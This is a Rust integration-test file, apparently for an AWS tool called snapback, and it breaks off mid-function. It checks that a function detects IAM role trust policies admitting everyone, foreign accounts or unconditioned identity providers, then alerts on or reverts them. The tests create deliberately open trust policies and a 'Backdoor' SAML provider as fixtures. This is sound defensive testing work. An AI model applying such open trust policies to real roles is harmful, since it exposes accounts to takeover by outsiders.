@@ -1,0 +1,805 @@
+//! The function `role-trust` from end to end: roles made in the stand-in account, the function's own code against it over the wire, and
+//! then the trust policies, the calls and the mails.
+
+#![expect(clippy::unwrap_used, reason = "a test fails by panicking, also in its helpers")]
+
+use std::fs;
+use std::path::Path;
+use std::time::Duration;
+
+use aws_sdk_iam::Client;
+use chrono::TimeDelta;
+use role_trust::RoleTrust;
+use rules::Outcome::{Alert, Failed, Reverted};
+use rules::policy;
+use runtime::Verdict::{Exempt, Ignored, Resent, Unreadable, Violation};
+use sandbox::{Fault, StandIn};
+use serde_json::{Value, json};
+use tests::{ACCOUNT, DEVELOPER, Process, Ran, Stage, event, expected, publish, refused, unique};
+use tokio::time::sleep;
+
+const FOREIGN: &str = "arn:aws:iam::999988887777:root";
+const OWN: &str = "arn:aws:iam::123456789012:root";
+const REVERT: &[(&str, &str)] = &[("ROLE_TRUST_MODE", "revert")];
+
+// ---------------------------------------------------------------------------------------------------------
+// The account and the events
+
+/// A role in a stand-in account, and the function.
+struct Scene {
+    stage: Stage,
+    iam: Client,
+    name: String,
+}
+
+impl Scene {
+    async fn new() -> Self {
+        Self::of(Stage::new().await)
+    }
+
+    fn of(stage: Stage) -> Self {
+        let iam = Client::new(&stage.admin);
+        let name = format!("role-{}", unique());
+        Self { stage, iam, name }
+    }
+
+    /// A new process of the function.
+    fn process(&self, settings: &[(&str, &str)]) -> Process<RoleTrust> {
+        self.stage.process(RoleTrust::new, settings)
+    }
+
+    /// A process that gets what happens now an hour later: it waits for nothing to become visible.
+    fn late_process(&self, settings: &[(&str, &str)]) -> Process<RoleTrust> {
+        self.stage.process_ahead(RoleTrust::new, settings, TimeDelta::try_hours(1).unwrap())
+    }
+
+    /// Hands an event to a new process.
+    async fn run(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
+        self.stage.run(&self.process(settings), event).await
+    }
+
+    async fn run_late(&self, settings: &[(&str, &str)], event: &Value) -> Ran {
+        self.stage.run(&self.late_process(settings), event).await
+    }
+
+    /// Makes the role.
+    async fn create(&self, document: &Value) -> Value {
+        let made = self.iam.create_role().role_name(&self.name).assume_role_policy_document(document.to_string());
+        let made = made.send().await.unwrap().role.unwrap();
+        let request = json!({"roleName": self.name, "assumeRolePolicyDocument": document.to_string()});
+        let response = json!({"role": {"path": "/", "roleName": self.name, "roleId": made.role_id, "arn": made.arn,
+            "createDate": "Nov 22, 2026 2:02:40 PM"}});
+        event("iam", "CreateRole", request, response)
+    }
+
+    /// Writes the role's trust policy.
+    async fn update(&self, document: &Value) -> Value {
+        let call = self.iam.update_assume_role_policy().role_name(&self.name).policy_document(document.to_string());
+        call.send().await.unwrap();
+        let request = json!({"roleName": self.name, "policyDocument": document.to_string()});
+        event("iam", "UpdateAssumeRolePolicy", request, Value::Null)
+    }
+
+    async fn delete(&self) {
+        self.iam.delete_role().role_name(&self.name).send().await.unwrap();
+    }
+
+    /// The role's trust policy now.
+    async fn trust(&self) -> Value {
+        let role = self.iam.get_role().role_name(&self.name).send().await.unwrap().role.unwrap();
+        policy::parse(&Value::from(role.assume_role_policy_document.unwrap())).unwrap()
+    }
+
+    /// The function's read of the role.
+    fn read(&self) -> String {
+        expected("GetRole", &[("RoleName", &self.name)])
+    }
+
+    /// The function's write of the trust policy.
+    fn written(&self, document: &Value) -> String {
+        let document = document.to_string();
+        expected("UpdateAssumeRolePolicy", &[("RoleName", &self.name), ("PolicyDocument", &document)])
+    }
+
+    /// The function's next call of that action is refused, and not carried out.
+    fn deny(&self, action: &str) {
+        self.stage.inject(Fault { status: 403, ..Fault::new("", action, "AccessDenied") });
+    }
+}
+
+/// The function's question for the account's organization.
+fn asked() -> String {
+    expected("DescribeOrganization", &[])
+}
+
+/// The same in an account that is in none.
+fn asked_in_vain() -> String {
+    refused(asked(), 400)
+}
+
+fn document(statements: &[Value]) -> Value {
+    json!({"Version": "2012-10-17", "Statement": statements})
+}
+
+fn allow(principal: Value) -> Value {
+    json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole"})
+}
+
+fn allow_if(principal: Value, condition: Value) -> Value {
+    json!({"Effect": "Allow", "Principal": principal, "Action": "sts:AssumeRole", "Condition": condition})
+}
+
+fn federated(provider: &str, condition: Value) -> Value {
+    json!({"Effect": "Allow", "Principal": {"Federated": provider}, "Action": "sts:AssumeRoleWithWebIdentity",
+        "Condition": condition})
+}
+
+fn ec2() -> Value {
+    allow(json!({"Service": "ec2.amazonaws.com"}))
+}
+
+/// What takes the place of a trust policy that would be left without statements.
+fn nobody() -> Value {
+    json!({"Effect": "Deny", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"})
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Alert, the default
+
+#[tokio::test]
+async fn by_default_everything_is_told_and_nothing_changed() {
+    let github = "arn:aws:iam::123456789012:oidc-provider/token.actions.githubusercontent.com";
+    let sure = [
+        (allow(json!("*")), "ALERT: HIGH: ", "trusts everyone"),
+        (allow(json!({"AWS": "*"})), "ALERT: HIGH: ", "trusts everyone"),
+        (
+            allow_if(json!("*"), json!({"StringEquals": {"sts:ExternalId": "x"}})),
+            "ALERT: HIGH: ",
+            "StringEquals sts:ExternalId x",
+        ),
+        (
+            json!({"Effect": "Allow", "NotPrincipal": {"AWS": OWN}, "Action": "sts:AssumeRole"}),
+            "ALERT: HIGH: ",
+            "everyone but",
+        ),
+        (federated("cognito-identity.amazonaws.com", json!({})), "ALERT: HIGH: ", "cognito-identity.amazonaws.com:aud"),
+        (federated(github, json!({})), "ALERT: HIGH: ", "token.actions.githubusercontent.com:sub"),
+        (federated("arn:aws:iam::999988887777:saml-provider/P", json!({})), "ALERT: MEDIUM: ", "999988887777"),
+        (allow(json!({"AWS": "AROADBQP57FF2AEXAMPLE"})), "ALERT: LOW: ", "has been deleted"),
+    ];
+    for (statement, words, text) in sure {
+        let scene = Scene::new().await;
+        let document = document(&[statement]);
+        let ran = scene.run(&[], &scene.create(&document).await).await;
+        ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+        ran.mail_says(&[words, text, &scene.name, "Nothing was changed, because RoleTrustMode is `alert`."]);
+        assert_eq!(scene.trust().await, document);
+    }
+    let if_not_own = [
+        (allow(json!({"AWS": "999988887777"})), "trusts 999988887777"),
+        (allow(json!({"AWS": [OWN, "arn:aws:iam::999988887777:role/R"]})), "999988887777"),
+        (allow(json!({"AWS": "arn:aws:sts::999988887777:assumed-role/R/s"})), "999988887777"),
+        (
+            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": "o-abcdefghij"}})),
+            "organization o-abcdefghij",
+        ),
+        (
+            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalAccount": "999988887777"}})),
+            "account 999988887777",
+        ),
+    ];
+    for (statement, text) in if_not_own {
+        let scene = Scene::new().await;
+        let document = document(&[statement, ec2()]);
+        let ran = scene.run(&[], &scene.create(&document).await).await;
+        ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
+        ran.mail_says(&["ALERT: MEDIUM: ", text, "With `revert` it would have:"]);
+        assert_eq!(scene.trust().await, document);
+    }
+}
+
+#[tokio::test]
+async fn identity_providers_are_told_in_every_mode_without_a_call() {
+    let scene = Scene::new().await;
+    let arn = "arn:aws:iam::123456789012:saml-provider/Backdoor";
+    let oidc = "arn:aws:iam::123456789012:oidc-provider/login.example.net";
+    let events = [
+        (
+            "CreateSAMLProvider",
+            json!({"name": "Backdoor", "sAMLMetadataDocument": "<EntityDescriptor entityID=\"https://idp.example\">"}),
+            json!({"sAMLProviderArn": arn}),
+            "https://idp.example",
+        ),
+        (
+            "UpdateSAMLProvider",
+            json!({"sAMLProviderArn": arn}),
+            json!({"sAMLProviderArn": arn}),
+            "ALERT: HIGH: SAML provider changed: Backdoor",
+        ),
+        (
+            "CreateOpenIDConnectProvider",
+            json!({"url": "https://login.example.net", "clientIDList": ["a"], "thumbprintList": []}),
+            json!({"openIDConnectProviderArn": oidc}),
+            "delete-open-id-connect-provider --open-id-connect-provider-arn=arn:aws:iam::123456789012",
+        ),
+        (
+            "AddClientIDToOpenIDConnectProvider",
+            json!({"openIDConnectProviderArn": oidc, "clientID": "b"}),
+            Value::Null,
+            "--client-id=b",
+        ),
+        (
+            "UpdateOpenIDConnectProviderThumbprint",
+            json!({"openIDConnectProviderArn": oidc, "thumbprintList": ["f"]}),
+            Value::Null,
+            "thumbprints",
+        ),
+    ];
+    for (name, request, response, text) in events {
+        let event = event("iam", name, request, response);
+        for settings in [&[][..], REVERT, &[("ROLE_TRUST_MODE", "revert"), ("ROLLOUT", "observe")]] {
+            let ran = scene.run(settings, &event).await;
+            ran.is(Violation, &[Alert], &[publish()]);
+            ran.mail_says(&[text, "snapback only tells of identity providers"]);
+            ran.mail_does_not_say(&["would have"]);
+        }
+        scene.run(&[("ROLE_TRUST_MODE", "off")], &event).await.is(Ignored, &[], &[]);
+        scene.run(&[("TRUSTED_ACTORS", DEVELOPER)], &event).await.is(Exempt, &[], &[]);
+    }
+}
+
+#[tokio::test]
+async fn switched_off_trusted_or_refused_it_costs_no_call() {
+    let scene = Scene::new().await;
+    let document = document(&[allow(json!("*"))]);
+    let mut event = scene.create(&document).await;
+    scene.run(&[("ROLE_TRUST_MODE", "off")], &event).await.is(Ignored, &[], &[]);
+    scene.run(&[("ROLE_TRUST_MODE", "revert"), ("TRUSTED_ACTORS", DEVELOPER)], &event).await.is(Exempt, &[], &[]);
+    event["detail"]["errorCode"] = json!("AccessDenied");
+    scene.run(REVERT, &event).await.is(Ignored, &[], &[]);
+    assert_eq!(scene.trust().await, document);
+}
+
+#[tokio::test]
+async fn those_inside_cost_no_call() {
+    for statement in [
+        ec2(),
+        allow(json!({"AWS": [OWN, ACCOUNT, "arn:aws:iam::111122223333:role/R"]})),
+        allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalAccount": ACCOUNT}})),
+        federated(
+            "cognito-identity.amazonaws.com",
+            json!({"StringEquals": {"cognito-identity.amazonaws.com:aud": "us-east-1:x"}}),
+        ),
+    ] {
+        let scene = Scene::new().await;
+        let event = scene.create(&document(&[statement])).await;
+        let settings = [("ROLE_TRUST_MODE", "revert"), ("TRUSTED_ACCOUNTS", "111122223333")];
+        scene.run(&settings, &event).await.is(Ignored, &[], &[]);
+    }
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Revert
+
+#[tokio::test]
+async fn of_two_principals_the_outsider_goes() {
+    let scene = Scene::new().await;
+    let mfa = json!({"Bool": {"aws:MultiFactorAuthPresent": "true"}});
+    let event = scene.create(&document(&[allow_if(json!({"AWS": [OWN, FOREIGN]}), mfa.clone())])).await;
+    let left = document(&[allow_if(json!({"AWS": [OWN]}), mfa)]);
+
+    let ran = scene.run(REVERT, &event).await;
+    ran.is(Violation, &[Reverted], &[asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()]);
+    ran.mail_says(&[
+        &format!("REVERTED: role {} trusted 999988887777", scene.name),
+        "if Bool aws:MultiFactorAuthPresent true",
+        "AWSRevokeOlderSessions",
+        &format!("aws iam list-attached-role-policies --role-name={}", scene.name),
+        "TrustedAccounts: 999988887777",
+    ]);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn of_two_statements_the_outsiders_goes() {
+    let scene = Scene::new().await;
+    scene.create(&document(&[ec2()])).await;
+    let event = scene.update(&document(&[ec2(), allow(json!({"AWS": FOREIGN}))])).await;
+    let left = document(&[ec2()]);
+    let calls = [asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()];
+    scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn a_wildcard_goes_and_the_service_beside_it_stays() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!({"AWS": "*", "Service": "ec2.amazonaws.com"}))])).await;
+    let left = document(&[ec2()]);
+    let calls = [scene.read(), scene.written(&left), scene.read(), publish()];
+    scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn where_nobody_would_be_left_nobody_is_let_in() {
+    for principal in [json!("*"), json!({"AWS": ["*"]}), json!({"AWS": "*", "Federated": "graph.facebook.com"})] {
+        let scene = Scene::new().await;
+        let event = scene.create(&document(&[allow(principal.clone()), allow(principal)])).await;
+        let left = document(&[nobody()]);
+        let calls = [scene.read(), scene.written(&left), scene.read(), publish()];
+        scene.run(REVERT, &event).await.is(Violation, &[Reverted], &calls);
+        assert_eq!(scene.trust().await, left);
+    }
+}
+
+#[tokio::test]
+async fn a_statement_that_stands_alone_stays_alone() {
+    let scene = Scene::new().await;
+    let written = json!({"Version": "2012-10-17", "Statement": allow(json!({"AWS": [FOREIGN, OWN]}))});
+    let event = scene.create(&written).await;
+    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
+    let left = json!({"Version": "2012-10-17", "Statement": allow(json!({"AWS": [OWN]}))});
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn what_snapback_writes_brings_no_further_change() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!({"AWS": ["*", OWN]})), allow(json!({"AWS": "*"}))])).await;
+    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
+    let own = json!({"roleName": scene.name, "policyDocument": scene.trust().await.to_string()});
+    let own = tests::event("iam", "UpdateAssumeRolePolicy", own, Value::Null);
+    scene.run(REVERT, &own).await.is(Ignored, &[], &[]);
+    let own = json!({"roleName": scene.name, "policyDocument": document(&[nobody()]).to_string()});
+    scene.run(REVERT, &tests::event("iam", "UpdateAssumeRolePolicy", own, Value::Null)).await.is(Ignored, &[], &[]);
+}
+
+#[tokio::test]
+async fn deleted_principals_stay_and_are_told() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!({"AWS": ["*", "AIDAJQABLZS4A3QDU576Q"]}))])).await;
+    let left = document(&[allow(json!({"AWS": ["AIDAJQABLZS4A3QDU576Q"]}))]);
+    let ran = scene.run(REVERT, &event).await;
+    ran.is(Violation, &[Reverted], &[scene.read(), scene.written(&left), scene.read(), publish()]);
+    ran.mail_says(&["Still in it, because it cannot be told who they are:", "AIDAJQABLZS4A3QDU576Q"]);
+
+    // What snapback wrote names it still: told, and no further change.
+    let own = json!({"roleName": scene.name, "policyDocument": left.to_string()});
+    let ran = scene.run(REVERT, &tests::event("iam", "UpdateAssumeRolePolicy", own, Value::Null)).await;
+    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn a_policy_that_denies_too_is_left_to_a_person() {
+    let scene = Scene::new().await;
+    let denied = json!({"Effect": "Deny", "Principal": {"AWS": FOREIGN}, "Action": "sts:AssumeRole"});
+    let document = document(&[allow(json!("*")), denied]);
+    let ran = scene.run(REVERT, &scene.create(&document).await).await;
+    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+    ran.mail_says(&["ALERT: HIGH: ", "the trust policy also denies something"]);
+    assert_eq!(scene.trust().await, document);
+}
+
+#[tokio::test]
+async fn whom_others_let_in_since_has_an_event_of_its_own() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!({"AWS": FOREIGN}))])).await;
+    let other = "arn:aws:iam::888877776666:root";
+    scene.update(&document(&[allow(json!({"AWS": [FOREIGN, other]}))])).await;
+    let left = document(&[allow(json!({"AWS": [other]}))]);
+    let ran = scene.run(REVERT, &event).await;
+    ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()]);
+    ran.mail_says(&["reverted, others let in since", other]);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn through_cloudformation_and_as_a_bare_record() {
+    let scene = Scene::new().await;
+    let mut event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    for field in ["sourceIPAddress", "userAgent"] {
+        event["detail"][field] = json!("cloudformation.amazonaws.com");
+    }
+    event["detail"]["userIdentity"]["invokedBy"] = json!("cloudformation.amazonaws.com");
+    scene
+        .run(REVERT, &event["detail"])
+        .await
+        .mail_says(&["REVERTED: ", "Through:        cloudformation.amazonaws.com"]);
+    assert_eq!(scene.trust().await, document(&[ec2()]));
+}
+
+#[tokio::test]
+async fn an_event_that_cannot_be_read_is_told() {
+    let scene = Scene::new().await;
+    let event =
+        event("iam", "UpdateAssumeRolePolicy", json!({"roleName": scene.name, "policyDocument": "{"}), Value::Null);
+    let ran = scene.run(REVERT, &event).await;
+    ran.is(Unreadable, &[Alert], &[publish()]);
+    ran.mail_says(&["`policyDocument` in the request is no JSON"]);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Rollout
+
+#[tokio::test]
+async fn observed_only_it_says_what_would_have_been_done() {
+    let scene = Scene::new().await;
+    let document = document(&[ec2(), allow(json!("*"))]);
+    let event = scene.create(&document).await;
+    let ran = scene.run(&[("ROLE_TRUST_MODE", "revert"), ("ROLLOUT", "observe")], &event).await;
+    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+    ran.mail_says(&["would have reverted: role", "Rollout is `observe`", "take * out of the trust policy"]);
+    // In mode `alert` nothing would have been reverted.
+    let ran = scene.run(&[("ROLLOUT", "observe")], &event).await;
+    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+    ran.mail_does_not_say(&["would have reverted"]);
+    assert_eq!(scene.trust().await, document);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// The organization
+
+/// A scene in an account that is in an organization, whose id comes with it.
+async fn in_an_organization(stand_in: &StandIn) -> (Scene, String) {
+    let scene = Scene::of(Stage::on(stand_in).await);
+    let organizations = aws_sdk_organizations::Client::new(&scene.stage.admin);
+    let made = organizations.create_organization().send().await.unwrap().organization.unwrap();
+    (scene, made.id.unwrap())
+}
+
+#[tokio::test]
+async fn the_own_organization_is_inside_and_asked_for_once() {
+    let stand_in = StandIn::start(&mut |_| {}).unwrap();
+    let (scene, id) = in_an_organization(&stand_in).await;
+    let process = scene.process(REVERT);
+    let own = document(&[
+        allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}})),
+        allow_if(
+            json!({"AWS": FOREIGN}),
+            json!({"ForAnyValue:StringLike": {"aws:PrincipalOrgPaths": format!("{id}/*")}}),
+        ),
+    ]);
+    let event = scene.create(&own).await;
+    scene.stage.run(&process, &event).await.is(Ignored, &[], &[asked()]);
+    assert_eq!(scene.trust().await, own);
+
+    // Another organization, and an account that is not said to be of the own one. It is known by now.
+    let own_part = allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}}));
+    let event = scene
+        .update(&document(&[
+            own_part.clone(),
+            allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": [id, "o-zyxwvutsrq"]}})),
+            allow(json!({"AWS": FOREIGN})),
+            allow_if(json!("*"), json!({"StringEqualsIfExists": {"aws:PrincipalOrgID": id}})),
+        ]))
+        .await;
+    let left = document(&[own_part]);
+    let calls = [scene.read(), scene.written(&left), scene.read(), publish()];
+    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn an_organization_that_somebody_narrowed_to_since_is_asked_for_too() {
+    let stand_in = StandIn::start(&mut |_| {}).unwrap();
+    let (scene, id) = in_an_organization(&stand_in).await;
+    let event = scene.create(&document(&[allow(json!("*"))])).await;
+    let narrowed = document(&[allow_if(json!("*"), json!({"StringEquals": {"aws:PrincipalOrgID": id}}))]);
+    scene.update(&narrowed).await;
+    let ran = scene.run_late(REVERT, &event).await;
+    ran.is(Violation, &[Alert], &[scene.read(), asked(), publish()]);
+    ran.mail_says(&["already gone"]);
+    assert_eq!(scene.trust().await, narrowed);
+}
+
+#[tokio::test]
+async fn an_organization_that_cannot_be_read_is_told_and_nobody_removed_by_guess() {
+    let scene = Scene::new().await;
+    let condition = json!({"StringEquals": {"aws:PrincipalOrgID": "o-abcdefghij"}});
+    let document = document(&[allow_if(json!("*"), condition.clone())]);
+    let event = scene.create(&document).await;
+    let denied = || {
+        scene.stage.inject(Fault { status: 400, ..Fault::new("", "DescribeOrganization", "AccessDeniedException") });
+    };
+    denied();
+    let ran = scene.run(&[], &event).await;
+    ran.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
+    ran.mail_says(&["ALERT: LOW: ", "own organization could not be told", "AccessDeniedException"]);
+
+    denied();
+    let process = scene.process(REVERT);
+    let ran = scene.stage.run(&process, &event).await;
+    ran.is_error(Violation, &[Failed], &[asked_in_vain(), scene.read(), publish()]);
+    ran.mail_says(&["AccessDeniedException", "organization o-abcdefghij"]);
+    assert_eq!(scene.trust().await, document);
+
+    // Lambda tries again, and this time it can be read.
+    let left = self::document(&[nobody()]);
+    let calls = [asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()];
+    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn who_is_surely_outside_goes_even_if_the_organization_cannot_be_read() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!("*")), allow(json!({"AWS": FOREIGN}))])).await;
+    scene.stage.inject(Fault { status: 400, ..Fault::new("", "DescribeOrganization", "AccessDeniedException") });
+    let left = document(&[allow(json!({"AWS": FOREIGN}))]);
+    let ran = scene.run(REVERT, &event).await;
+    let calls = [asked_in_vain(), scene.read(), scene.written(&left), scene.read(), publish()];
+    ran.is_error(Violation, &[Failed], &calls);
+    ran.mail_says(&["may still trust 999988887777", "This was carried out:", "take * out of the trust policy"]);
+    assert_eq!(scene.trust().await, left);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Twice, late, early
+
+#[tokio::test]
+async fn twice_in_one_process_is_told_once() {
+    for (settings, outcome, calls) in [(&[][..], Alert, 1), (REVERT, Reverted, 3)] {
+        let scene = Scene::new().await;
+        let process = scene.process(settings);
+        let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+        let first = scene.stage.run(&process, &event).await;
+        assert_eq!(first.calls.len(), calls + 1);
+        first.mail_says(&[outcome.words()]);
+        let state = scene.trust().await;
+        scene.stage.run(&process, &event).await.is(Violation, &[], &[scene.read()]);
+        assert_eq!(scene.trust().await, state);
+    }
+}
+
+#[tokio::test]
+async fn twice_in_two_processes_ends_the_same() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!({"AWS": FOREIGN}))])).await;
+    scene.run(REVERT, &event).await.mail_says(&["REVERTED: "]);
+    let again = scene.run_late(REVERT, &event).await;
+    again.is(Violation, &[Alert], &[asked_in_vain(), scene.read(), publish()]);
+    again.mail_says(&["already gone", "no longer lets them in"]);
+    assert_eq!(scene.trust().await, document(&[ec2()]));
+}
+
+#[tokio::test]
+async fn two_processes_at_once_end_the_same() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    let (one, other) = (scene.process(REVERT), scene.process(REVERT));
+    let (one, other) = tokio::join!(Box::pin(one.handle(&event)), Box::pin(other.handle(&event)));
+    for handled in [one, other] {
+        assert_eq!(handled.error, None, "{handled:#?}");
+    }
+    assert_eq!(scene.trust().await, document(&[ec2()]));
+}
+
+#[tokio::test]
+async fn what_is_let_in_again_goes_again() {
+    let scene = Scene::new().await;
+    let process = scene.process(REVERT);
+    let open = document(&[ec2(), allow(json!("*"))]);
+    let first = scene.create(&open).await;
+    scene.stage.run(&process, &first).await.mail_says(&["REVERTED: "]);
+    let second = scene.update(&open).await;
+    scene.stage.run(&process, &second).await.mail_says(&["REVERTED: "]);
+    assert_eq!(scene.trust().await, document(&[ec2()]));
+}
+
+#[tokio::test]
+async fn a_role_that_is_gone_is_told() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!("*"))])).await;
+    scene.delete().await;
+    let ran = scene.run_late(REVERT, &event).await;
+    ran.is(Violation, &[Alert], &[refused(scene.read(), 404), publish()]);
+    ran.mail_says(&["trusted everyone, already gone", "the role was deleted"]);
+}
+
+#[tokio::test]
+async fn another_role_of_the_same_name_is_not_touched() {
+    let scene = Scene::new().await;
+    let open = document(&[allow(json!("*"))]);
+    let event = scene.create(&open).await;
+    scene.delete().await;
+    scene.create(&open).await;
+    let ran = scene.run_late(REVERT, &event).await;
+    ran.is(Violation, &[Alert], &[scene.read(), publish()]);
+    ran.mail_says(&["another role has that name now"]);
+    assert_eq!(scene.trust().await, open);
+}
+
+#[tokio::test]
+async fn a_young_change_that_is_not_yet_readable_is_waited_for() {
+    let scene = Scene::new().await;
+    let open = document(&[ec2(), allow(json!("*"))]);
+    scene.create(&document(&[ec2()])).await;
+    let event = scene.update(&open).await;
+    scene.update(&document(&[ec2()])).await;
+    let process = scene.process(REVERT);
+    let late = async {
+        sleep(Duration::from_secs(2)).await;
+        scene.update(&open).await;
+    };
+    let (ran, ()) = tokio::join!(Box::pin(scene.stage.run(&process, &event)), Box::pin(late));
+    ran.mail_says(&["REVERTED: "]);
+    assert_eq!(scene.trust().await, document(&[ec2()]));
+}
+
+#[tokio::test]
+async fn a_young_role_that_never_shows_is_told_within_twenty_seconds() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[allow(json!("*"))])).await;
+    scene.delete().await;
+    let ran = scene.run(REVERT, &event).await;
+    assert_eq!(ran.handled.error, None);
+    ran.mail_says(&["already gone"]);
+    assert!((14..20).contains(&ran.took.as_secs()), "{:?}", ran.took);
+}
+
+// ---------------------------------------------------------------------------------------------------------
+// Faults
+
+#[tokio::test]
+async fn a_read_that_is_refused_is_a_failure_in_every_mode() {
+    for settings in [&[][..], REVERT] {
+        let scene = Scene::new().await;
+        let event = scene.create(&document(&[allow(json!("*"))])).await;
+        scene.deny("GetRole");
+        let ran = scene.run(settings, &event).await;
+        ran.is_error(Violation, &[Failed], &[refused(scene.read(), 403), publish()]);
+        ran.mail_says(&["could not be read", "AccessDenied", "Trust relationships"]);
+    }
+}
+
+#[tokio::test]
+async fn a_write_that_is_refused_is_a_failure_and_tried_again() {
+    let scene = Scene::new().await;
+    let open = document(&[ec2(), allow(json!("*"))]);
+    let event = scene.create(&open).await;
+    let process = scene.process(REVERT);
+    scene.deny("UpdateAssumeRolePolicy");
+    let left = document(&[ec2()]);
+    let ran = scene.stage.run(&process, &event).await;
+    let calls = [scene.read(), refused(scene.written(&left), 403), scene.read(), publish()];
+    ran.is_error(Violation, &[Failed], &calls);
+    ran.mail_says(&["FAILED - ACT NOW: role", "may still trust everyone", "AccessDenied"]);
+    assert_eq!(scene.trust().await, open);
+
+    let calls = [scene.read(), scene.written(&left), scene.read(), publish()];
+    scene.stage.run(&process, &event).await.is(Violation, &[Reverted], &calls);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn a_second_look_that_is_refused_is_never_called_reverted() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    let process = scene.process(REVERT);
+    // The write is slow enough for the fault to be set meanwhile, so that only the second read meets it.
+    scene.stage.inject(Fault { code: None, delay_seconds: 1.0, ..Fault::new("", "UpdateAssumeRolePolicy", "") });
+    let denied = async {
+        sleep(Duration::from_millis(500)).await;
+        scene.deny("GetRole");
+    };
+    let (ran, ()) = tokio::join!(Box::pin(scene.stage.run(&process, &event)), denied);
+    let left = document(&[ec2()]);
+    ran.is_error(Violation, &[Failed], &[scene.read(), scene.written(&left), refused(scene.read(), 403), publish()]);
+    ran.mail_says(&["This was carried out:"]);
+    assert_eq!(scene.trust().await, left);
+    // Lambda tries again: nothing is open any more.
+    scene.stage.run(&process, &event).await.is(Violation, &[Alert], &[scene.read(), publish()]);
+}
+
+#[tokio::test]
+async fn a_write_whose_answer_is_lost_ends_closed_and_told() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    let lost = Fault::new("", "UpdateAssumeRolePolicy", "InternalFailure");
+    scene.stage.inject(Fault { after: true, times: 3, ..lost });
+    let left = document(&[ec2()]);
+    let ran = scene.run(REVERT, &event).await;
+    let lost = refused(scene.written(&left), 500);
+    let calls = [scene.read(), lost.clone(), lost.clone(), lost, scene.read(), publish()];
+    ran.is(Violation, &[Alert], &calls);
+    ran.mail_says(&["trusted everyone, taken out", "by that call or by somebody else"]);
+    assert_eq!(scene.trust().await, left);
+}
+
+#[tokio::test]
+async fn an_alert_that_sns_did_not_take_is_sent_by_the_retry() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    let process = scene.process(REVERT);
+    scene.stage.inject(Fault { times: 3, ..Fault::new("", "Publish", "InternalError") });
+    let left = document(&[ec2()]);
+    let ran = scene.stage.run(&process, &event).await;
+    let failed = refused(publish(), 500);
+    let calls = [scene.read(), scene.written(&left), scene.read(), failed.clone(), failed.clone(), failed];
+    ran.is_error(Violation, &[], &calls);
+    assert_eq!(scene.trust().await, left);
+    scene.stage.run(&process, &event).await.is(Resent, &[Reverted], &[publish()]);
+    scene.stage.run(&process, &event).await.is(Violation, &[], &[scene.read()]);
+}
+
+#[tokio::test]
+async fn when_the_time_runs_out_it_says_so() {
+    let scene = Scene::new().await;
+    let event = scene.create(&document(&[ec2(), allow(json!("*"))])).await;
+    scene.stage.inject(Fault { code: None, delay_seconds: 4.0, ..Fault::new("", "GetRole", "") });
+    let ran = scene.stage.run_within(&scene.process(REVERT), &event, Duration::from_secs(14)).await;
+    assert!(ran.handled.error.is_some());
+    ran.mail_says(&["FAILED - ACT NOW: ", "the time for it ran out"]);
